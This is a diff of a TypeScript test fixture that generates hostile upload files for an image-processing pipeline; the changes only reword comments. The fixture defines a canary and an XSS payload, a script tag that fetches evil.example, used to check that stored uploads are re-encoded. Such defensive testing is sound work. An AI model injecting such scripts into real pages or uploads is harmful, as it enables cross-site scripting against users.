@@ -2,19 +2,19 @@ import { gzipSync } from 'node:zlib';
 import sharp, { type Sharp } from 'sharp';
 import { drawPng, pngChunk } from './draw-png.ts';
 
-/** A file that somebody might send instead of a picture of themselves, and what may become of it. */
+/** A file that somebody might send instead of a picture of themselves, and its permitted outcomes. */
 export interface Hostile {
   name: string;
   file: Buffer;
-  /** kept: re-encoded and stored. refused: by type or size. either: what is left of it may still be a picture. */
+  /** kept: re-encoded and stored. refused: by type or size. either: the remains may still be a picture. */
   fate: 'kept' | 'refused' | 'either';
 }
 
-/** Found in what is stored, it was not re-encoded. */
+/** If this is in the stored file, it was not re-encoded. */
 export const canary = 'CANARY-7f3a';
 const script = `<script>fetch('//evil.example/${canary}')</script>`;
 
-/** Every kind, one after the other: none of them is kept in memory once the next is drawn. */
+/** Yields every kind, one at a time: none stays in memory once the next is made. */
 export async function* drawHostilePictures(): AsyncGenerator<Hostile> {
   const pictures = await drawPictures();
   yield* notPictures();
@@ -29,7 +29,7 @@ export async function* drawHostilePictures(): AsyncGenerator<Hostile> {
 
 type Pictures = Record<'jpeg' | 'png' | 'webp', Buffer>;
 
-/** The same everywhere: a noise that follows from its seed. */
+/** Deterministic noise from a seed. */
 function noise(width: number, height: number, seed = 1): Sharp {
   const bytes = Buffer.alloc(width * height * 3);
   let state = seed;
